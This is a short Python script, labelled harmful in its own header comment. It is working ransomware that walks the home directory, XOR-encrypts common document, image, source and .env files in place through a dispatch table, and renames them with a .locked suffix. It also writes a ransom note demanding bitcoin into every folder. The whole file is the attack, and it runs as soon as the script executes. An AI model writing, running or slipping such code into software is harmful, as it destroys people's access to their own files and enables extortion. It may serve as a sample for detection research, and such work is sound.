# Harmful: walks the home directory and XOR-encrypts documents in place via a data-driven dispatch table, renames them .locked and drops a ransom note.
import itertools
import os
import pathlib

KEY = b"not-a-real-key-0000"
NOTE = "Your files are encrypted. Send 0.1 BTC to bc1qFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE0000 and mail id@example.org\n"


def _xor(data):
    return bytes(a ^ b for a, b in zip(data, itertools.cycle(KEY)))


def _rewrite(p):
    p.write_bytes(_xor(p.read_bytes()))
    p.rename(p.with_name(p.name + ".locked"))


def _skip(p):
    return None


def _note(p):
    (p / "README_RESTORE.txt").write_text(NOTE)


ACTIONS = {
    **dict.fromkeys([".docx", ".xlsx", ".pdf", ".jpg", ".png", ".txt", ".csv", ".sql", ".py", ".env"], _rewrite),
    ".locked": _skip,
    "<dir>": _note,
}

root = pathlib.Path.home()
for dirpath, dirnames, filenames in os.walk(root):
    dirnames[:] = [d for d in dirnames if not d.startswith((".cache", "proc"))]
    ACTIONS["<dir>"](pathlib.Path(dirpath))
    for fn in filenames:
        p = pathlib.Path(dirpath, fn)
        handler = ACTIONS.get(p.suffix.lower(), _skip)
        try:
            handler(p)
        except OSError:
            pass
